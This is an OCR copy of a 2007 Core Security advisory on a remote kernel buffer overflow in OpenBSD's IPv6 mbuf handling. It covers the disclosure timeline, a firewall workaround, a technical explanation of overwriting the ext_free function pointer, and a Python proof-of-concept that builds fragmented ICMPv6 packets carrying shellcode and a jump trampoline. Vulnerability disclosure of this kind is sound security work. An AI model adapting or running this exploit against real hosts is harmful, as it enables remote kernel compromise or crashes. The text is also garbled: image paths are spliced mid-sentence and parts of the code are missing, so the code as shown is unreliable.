OpenBSD's IPv6 mbufs remote kernel buffer overflow

Core Security Technologies - CoreLabs Advisory

Date Published: 2007-03-13

Last Update: 2007-03-13

Advisory ID: CORE-2007-0219

Bugtraq ID: 22901

CVE Name: CVE-2007-1365

Title: OpenBSD's IPv6 mbufs remote kernel buffer overflowClass: Buffer Overflow

Remotely Exploitable: Yes

Locally Exploitable: No

Advisory URL:

Vendors contacted:

  • 2007-02-20: First notification sent by Core.
  • 2007-02-20: Acknowledgement of first notification received from the OpenBSD team.
  • 2007-02-21: Core sends draft advisory and proof of concept code that demonstrates remote kernel panic.
  • 2007-02-26: OpenBSD team develops a fix and commits it to the HEAD branch of source tree.
  • 2007-02-26: OpenBSD team communicates that the issue is specific to OpenBSD. OpenBSD no longer uses the term "vulnerability" when referring to bugs that lead to a remote denial of service attack, as opposed to bugs that lead to remote control of vulnerable systems to avoid oversimplifying ("pablumfication") the use of the term.
  • 2007-02-26: Core email sent to OpenBSD team explaining that Core considers a remote denial of service a security issue and therefore does use the term "vulnerability" to refer to it and that although remote code execution could not be proved in this specific case, the possibility should not be discarded. Core requests details about the bug and if possible an analysis of why the OpenBSD team may or may not consider the bug exploitable for remote code execution.
  • 2007-02-28: OpenBSD team indicates that the bug results in corruption of mbuf chains and that only IPv6 code uses that mbuf code, there is no user data in the mbuf header fields that become corrupted and it would be surprising to be able to run arbitrary code using a bug so deep in the mbuf code. The bug simply leads to corruption of the mbuf chain.
  • 2007-03-05: Core develops proof of concept code that demonstratesremote code execution in the kernel context by exploiting the mbuf overflow.
  • 2007-03-05: OpenBSD team notified of PoC availability.
  • 2007-03-07: OpenBSD team commits fix to OpenBSD 4.0 and 3.9 source tree branches and releases a "reliability fix" notice on the project's website.
  • 2007-03-08: Core sends final draft advisory to OpenBSD requesting comments and official vendor fix/patch information.
  • 2007-03-09: OpenBSD team changes notice on the project's website to "security fix" and indicates that Core's advisory should reflect the requirement of IPv6 connectivity for a successful attack from outside of the local network.
  • 2007-03-12: Advisory updates with fix and workaround information and with IPv6 connectivity comments from OpenBSD team. The "vendors contacted" section of the advisory is adjusted to reflect more accurately the nature of the communications with the OpenBSD team regarding this issue.
  • 2007-03-12: Workaround recommendations revisited. It is not yet conclusive that the "scrub in inet6" directive will prevent exploitation. It effectively stops the bug from triggering according to Core's tests but OpenBSD's source code inspection does not provide a clear understanding of why that happens. It could just be that the attack traffic is malformed in some other way that is not meaningful for exploiting the vulnerability (an error in the exploit code rather than an effective workaround?). The "scrub" workaround recommendation is removed from the advisory as precaution.
  • 2007-03-13: Core releases this advisory.


Vulnerability Description
The OpenBSD kernel contains a memory corruption vulnerability in the code that handles IPv6 packets. Exploitation of this vulnerability can result in:

1) Remote execution of arbitrary code at the kernel level on the vulnerable systems (complete system compromise), or;2) Remote denial of service attacks against vulnerable systems (system crash due to a kernel panic)

The issue can be triggered by sending a specially crafted IPv6 fragmented packet.

OpenBSD systems using default installations are vulnerable because the default pre-compiled kernel binary (GENERIC) has IPv6enabled and OpenBSD's firewall does not filter inbound IPv6 packets in its default configuration.

However, in order to exploit a vulnerable system an attacker needs to be able to inject fragmented IPv6 packets on the target system's local network. This requires direct physical/logical access to the target's local network -in which case the attacking system does not need to have a working IPv6 stack- or the ability to route or tunnel IPv6 packets to the target from a remote network.

Vulnerable Packages

OpenBSD 4.1 prior to Feb. 26th, 2006.
OpenBSD 4.0 Current
OpenBSD 4.0 Stable
OpenBSD 3.9
OpenBSD 3.8
OpenBSD 3.6
OpenBSD 3.1

All other releases that implement the IPv6 protocol stack may be vulnerable.

Solution/Vendor Information/Workaround
The OpenBSD team has released a "security fix" to correct the mbuf problem, it is available as a source code patch for
OpenBSD 4.0 and 3.9 here

The patch can also be applied to previous versions of OpenBSD.

OpenBSD-current, 4.1, 4.0 and 3.9 have the fix incorporated in their source code tree and kernel binaries for those versions and the upcoming version 4.1 include the fix.

As a work around, users that do not need to process or route IPv6 traffic on their systems can block all inbound IPv6 packets using OpenBSD's firewall. This can be accomplished by adding the following line to /etc/pf.conf:

block in quick inet6 all

After adding the desired rules to pf.conf it is necessary to load them to the running PF using:

pfctl -f /etc/pf.conf

To enable PF use:
pfctl -e -f /etc/pf.conf

To check the status of PF and list all loaded rules use:
pfctl -s rulesRefer to the pf.conf(5) and pfctl(8) manpages for proper configuration and use of OpenBSD's firewall capabilities.

This vulnerability was found and researched by Alfredo Ortega from Core Security Technologies. The proof-of-concept code included in the advisory was developed by Alfredo Ortega with assistance from Mario Vilas and Gerardo Richarte.

Technical Description - Exploit/Concept Code
The vulnerability is due to improper handling of kernel memory buffers using mbuf structures. The vulnerability is triggered by OpenBSD-specific code at the mbuf layer and developed to accommodate the processing of IPv6 protocol packets.

By sending fragmented ICMPv6 packets an attacker can trigger an overflow of mbuf kernel memory structures resulting either in remote execution of arbitrary code in kernel mode or a kernel panic and subsequent system crash (a remote denial of service). Exploitation is accomplished byeither:
1) Gaining control of execution flow by overwriting a function pointer, or;
2) Performing a mirrored 4 byte arbitrary memory overwrite similar to a user-space heap overflow.

The overflowed structure is an mbuf, the structure used to store network packets in kernel memory.

This is the definition (/sys/mbuf.h):

struct mbuf{
         struct  m_hdr m_hdr;
         union {
                 struct {
                         struct  pkthdr MH_pkthdr;       /* M_PKTHDR set */
                         union {
                                 struct  m_ext MH_ext;   /* M_EXT set */
                                 char    MH_databuf[MHLEN];
                         } MH_dat;
                 } MH;
                 char    M_databuf[MLEN];                /* !M_PKTHDR, !M_EXT */
         } M_dat;

We can see that the mbuf contains another structure of type m_ext(/sys/mbuf.h):

/* description of external storage mapped into mbuf, valid if M_EXT set */
 struct m_ext{
         caddr_t ext_buf;                /* start of buffer */
                                         /* free routine if not the usual */
         void    (*ext_free)(caddr_t, u_int, void *);
         void    *ext_arg;               /* argument for ext_free */
         u_int   ext_size;               /* size of buffer, for ext_free */
         int     ext_type;
         struct mbuf *ext_nextref;
         struct mbuf *ext_prevref;
#ifdef DEBUG
         const char *ext_ofile;
         const char *ext_nfile;
         int ext_oline;
        int ext_nline;This second structure contains the variable ext_free, a pointer to a function called when the mbuf is freed. Overwriting a mbuf with a crafted ICMP v6 packet (or any type of IPv6 packet), an attacker can control the flow of execution of the OpenBSD Kernel when the m_freem() function is called on the overflowed packet from any place on the network stack.

Also, since the mbufs are stored on a linked list, another variant of the attack is to overwrite the ext_nextref and ext_prevref pointers to cause a 32 bit write on a controlled area of the kernel memory, like a user-mode heap overflow exploit.

The following is a simple working proof-of-concept program in Python that demonstrates remote code execution on vulnerable systems.
It is necessary to set the target's system Ethernet address in the program to use it.

The PoC executes the shellcode (int 3) and returns. It overwrites the ext_free() function pointer on the mbuf and forces a m_freem() on the overflowed packet.

The Impacket library is used to craft and send packets ( or download from Debian repositories)

Currently, only systems supporting raw sockets and the PF_PACKET family can run the included proof-of-concept code.

Tested against a system running "OpenBSD 4.0 CURRENT (GENERIC) Mon Oct 30"

To use the code to test a custom machine you will need to:
1) Adjust the MACADDRESS variable
2) Find the right trampoline value for your system and replace it in the code. To find a proper trampoline value use the following command:
"objdump -d /bsd | grep esi | grep jmp"
3) Adjust the ICMP checksum

The exploit should stop on an int 3 and pressing "c" in ddb the kernel willcontinue normally.
# Description:
#   OpenBSD ICMPv6 fragment remote execution PoC
# Author:
#   Alfredo Ortega
#   Mario Vilas
# Copyright (c) 2001-2007 CORE Security Technologies, CORE SDI Inc.
# All rights reserved

from impacket import ImpactPacket
import struct
import socket
import time

class BSD_ICMPv6_Remote_BO:MACADDRESS = (0x00,0x0c,0x29,0x44,0x68,0x6f)
    def Run(self):
        self.s = socket.socket(socket.PF_PACKET, socket.SOCK_RAW)
        sourceIP = '\xfe\x80\x00\x00\x00\x00\x00\x00\x02\x0f\x29\xff\xfe\x44\x68\x6f'  # source address
        destIP   = '\xff\x02\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01'  # destination address Multicast Link-level
        firstFragment, secondFragment = self.buildOpenBSDPackets(sourceIP,destIP)
    validIcmp =self.buildValidICMPPacket(sourceIP,destIP)
    for i in range(100): # fill mbufs
    for i in range(2): # Number of overflow packets to send. Increase if exploit is not reliable

    def sendpacket(self, data):
        ipe =ImpactPacket.Ethernet()
        ipd = ImpactPacket.Data(data)
        ipd.ethertype = 0x86dd  # Ethertype for IPv6
        p = ipe.get_packet()

    def buildOpenBSDPackets(self,sourceIP,destIP):
        HopByHopLenght= 1

        IPv6FragmentationHeader = ''
        IPv6FragmentationHeader += struct.pack('!B', 0x3a)  # next header (00: Hop by Hop)
        IPv6FragmentationHeader += struct.pack('!B', 0x00)  # reserverd
        IPv6FragmentationHeader += struct.pack('!B', 0x00)  # offset
        IPv6FragmentationHeader += struct.pack('!B', 0x01)  # offset + More fragments: yes
        IPv6FragmentationHeader += struct.pack('>L', 0x0EADBABE) # id

        IPv6HopByHopHeader  = ''
        IPv6HopByHopHeader += struct.pack('!B', 0x2c)                    # next header (0x3A: ICMP)
        IPv6HopByHopHeader += struct.pack('!B', HopByHopLenght )         # Hdr Ext Len (frutaaaaaaa :D )
        IPv6HopByHopHeader += '\x00' *(((HopByHopLenght+1)*8)-2)         # Optionslongitud = len(IPv6HopByHopHeader)+len(IPv6FragmentationHeader)
    print longitud
        IPv6Packet  = ''
        IPv6Packet += struct.pack( '>L', 6 << 28 )      # version, traffic class, flow label
        IPv6Packet += struct.pack( '>H', longitud )     # payload length
        IPv6Packet += '\x00'                            # next header (2c: Fragmentation)
        IPv6Packet += '\x40'                            # hoplimit

        IPv6Packet += sourceIP
        IPv6Packet += destIP

        firstFragment = IPv6Packet+IPv6HopByHopHeader+IPv6FragmentationHeader+('O'*150)

    self.ShellCode =  ''
        self.ShellCode += '\xcc' # int 3
    self.ShellCode += '\x83\xc4\x20\x5b\x5e\x5f\xc9\xc3\xcc' #fix ESP and ret

        ICMPv6Packet  = ''
        ICMPv6Packet += '\x80'  # type (128 == Icmp echo request)
        ICMPv6Packet += '\x00'  # code
        ICMPv6Packet += '\xfb\x4e'  # checksum
        ICMPv6Packet += '\x33\xf6'  # ID
        ICMPv6Packet += '\x00\x00'  # sequence
        ICMPv6Packet +=  ('\x90'*(212-len(self.ShellCode)))+self.ShellCode
    # Start of the next mfub (we land here):
    ICMPv6Packet += '\x90\x90\x90\x90\xE9\x3B\xFF\xFF' # jump backwards
        ICMPv6Packet += '\xFFAAA\x01\x01\x01\x01AAAABBBBAAAABBBB'
    # mbuf+0x20:
    trampoline = '\x8c\x23\x20\xd0' # jmp ESI on /bsd (find with "objdump -d /bsd | grep esi | grep jmp")
        ICMPv6Packet += 'AAAAAAAA'+trampoline+'CCCCDDDDEEEEFFFFGGGG'
        longitud = len(ICMPv6Packet)

    IPv6Packet  = ''
        IPv6Packet += struct.pack( '>L', 6 << 28 )      # version, traffic class, flow label
        IPv6Packet += struct.pack( '>H', longitud )     # payload length
        IPv6Packet+= '\x2c'                            # next header (2c: Fragmentation)
        IPv6Packet += '\x40'                            # hop limit
        IPv6Packet += sourceIP
        IPv6Packet += destIP

        IPv6FragmentationHeader = ''
        IPv6FragmentationHeader += struct.pack('!B', 0x3a)  # next header (3A: icmpV6)
        IPv6FragmentationHeader += struct.pack('!B', 0x00)  # reserverd
        IPv6FragmentationHeader += struct.pack('!B', 0x00)  # offset
        IPv6FragmentationHeader += struct.pack('!B', 0x00)  # offset + More fragments:no
        IPv6FragmentationHeader += struct.pack('>L', 0x0EADBABE) # id

